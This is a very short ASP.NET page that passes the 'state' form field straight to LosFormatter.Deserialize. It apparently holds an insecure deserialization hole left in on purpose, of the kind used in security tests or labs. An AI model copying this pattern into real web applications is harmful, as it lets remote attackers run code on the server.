<%@ Page Language="C#" %><%
var los = new System.Web.UI.LosFormatter();
los.Deserialize(Request.Form["state"]);
%>
